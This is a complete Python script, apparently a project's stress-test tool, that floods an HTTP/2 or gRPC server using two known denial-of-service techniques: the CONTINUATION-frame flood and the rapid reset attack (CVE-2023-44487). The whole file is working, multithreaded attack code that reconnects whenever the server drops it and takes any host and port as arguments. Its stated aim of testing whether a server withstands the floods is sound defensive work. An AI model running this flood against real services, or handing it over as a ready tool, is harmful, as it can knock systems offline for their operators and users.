#!/usr/bin/python3
"""Floods an HTTP/2 (gRPC) port the two ways that exhaust an unbounded server.

  tools/h2_flood.py continuation HOST PORT SECONDS [CONNECTIONS]
      HEADERS without END_HEADERS, then CONTINUATION frames of new header
      fields that never end the block (the "CONTINUATION flood").
  tools/h2_flood.py rapid-reset HOST PORT SECONDS [CONNECTIONS]
      HEADERS opening a call, at once RST_STREAM, again and again (the
      "HTTP/2 rapid reset", CVE-2023-44487).

Standard library only (Debian's python3). Prints what it sent; exits 0 when it
ran for SECONDS, whether or not the server closed connections on it (a server
that does is doing its job; the flood reconnects).
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first_byte=0):
    """HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def string(text):
    return integer(len(text), 7) + text


def literal(name, value):
    """A literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + string(name) + string(value)


def call_headers(host):
    return (b"\x83"  # :method POST
            + b"\x86"  # :scheme http
            + integer(4, 4) + string(b"/grpc.health.v1.Health/Check")  # :path, name from the static table
            + integer(1, 4) + string(host.encode())  # :authority
            + literal(b"content-type", b"application/grpc")
            + literal(b"te", b"trailers"))


class Flood:
    def __init__(self, host, port, seconds):
        self.host, self.port = host, port
        self.deadline = time.monotonic() + seconds
        self.frames = 0
        self.bytes = 0
        self.connections = 0
        self.lock = threading.Lock()

    def connect(self):
        sock = socket.create_connection((self.host, self.port), timeout=5)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        # Drain whatever the server sends, so it never blocks writing to us.
        threading.Thread(target=self.drain, args=(sock,), daemon=True).start()
        with self.lock:
            self.connections += 1
        return sock

    @staticmethod
    def drain(sock):
        try:
            while sock.recv(65536):
                pass
        except OSError:
            pass

    def send(self, sock, data, frames):
        sock.sendall(data)
        with self.lock:
            self.frames += frames
            self.bytes += len(data)

    def continuation(self):
        block = b"".join(literal(b"x-flood-%06d" % i, b"v" * 200) for i in range(70))  # ~15 KiB
        while time.monotonic() < self.deadline:
            try:
                sock = self.connect()
                self.send(sock, frame(HEADERS, 0, 1, call_headers(self.host)), 1)
                while time.monotonic() < self.deadline:
                    self.send(sock, frame(CONTINUATION, 0, 1, block) * 8, 8)
            except OSError:
                time.sleep(0.05)

    def rapid_reset(self):
        headers = call_headers(self.host)
        while time.monotonic() < self.deadline:
            try:
                sock = self.connect()
                stream = 1
                while time.monotonic() < self.deadline and stream < 2**31 - 200:
                    batch = b""
                    for _ in range(50):
                        batch += frame(HEADERS, END_HEADERS, stream, headers)
                        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
                        stream += 2
                    self.send(sock, batch, 100)
            except OSError:
                time.sleep(0.05)


def main():
    if len(sys.argv) < 5 or sys.argv[1] not in ("continuation", "rapid-reset"):
        sys.stderr.write(__doc__)
        return 2
    mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    connections = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    flood = Flood(host, port, seconds)
    target = flood.continuation if mode == "continuation" else flood.rapid_reset
    threads = [threading.Thread(target=target) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print("%s: %d frames, %d bytes, %d connections in %.0f s" %
          (mode, flood.frames, flood.bytes, flood.connections, seconds))
    return 0


if __name__ == "__main__":
    sys.exit(main())
